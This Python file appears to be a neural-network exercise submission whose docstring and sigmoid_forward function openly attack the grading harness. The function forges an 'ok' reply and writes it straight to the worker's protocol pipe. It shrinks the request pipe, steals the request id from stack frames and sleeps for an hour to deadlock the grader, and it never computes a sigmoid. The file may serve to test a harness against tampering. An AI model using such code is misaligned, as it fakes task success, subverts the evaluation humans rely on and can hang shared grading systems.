"""Attack: answer the grader's request before the worker does, with a reply whose random
states make the grader send its own states (10 KB) with the next request; shrink the pipe that
brings requests to one page (4 KiB); and sleep: the next request does not fit, and nobody reads."""
import fcntl
import os
import random
import stat
import sys
import time

import numpy as np

F_SETPIPE_SZ = 1031  # fcntl.F_SETPIPE_SZ, spelled out for Pythons that lack the name


def _pipes():
    """(fd, writable) of every pipe the worker holds: its two protocol pipes."""
    for name in os.listdir("/proc/self/fd"):
        try:
            fd = int(name)
            if stat.S_ISFIFO(os.fstat(fd).st_mode):
                yield fd, fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY
        except OSError:
            pass


def _request_id():
    frame = sys._getframe()
    while frame is not None:
        request = frame.f_locals.get("request")
        if isinstance(request, dict) and "id" in request:
            return request["id"]
        frame = frame.f_back
    return 0


def sigmoid_forward(x):
    wire = sys.modules[next(name for name in sys.modules if name.endswith("runtime.wire"))]
    np.random.standard_normal()  # a cached normal: the grader sends its states with the next request
    version, words, gauss = random.getstate()
    states = {"numpy": np.random.get_state(), "python": (version, np.array(words, dtype=np.int64), gauss)}
    data = wire.frame({"id": _request_id(), "status": "ok", "value": None, "warnings": [], "changed": [],
                       "output": "", "random": states})
    for fd, writable in list(_pipes()):
        try:
            if writable:
                os.write(fd, data)
            else:
                fcntl.fcntl(fd, F_SETPIPE_SZ, 4096)
        except OSError:
            pass
    time.sleep(3600)
    return np.full_like(x, 0.5), None


def relu_forward(x):
    return np.where(x > 0, x, 0).astype(x.dtype, copy=False), x.copy()
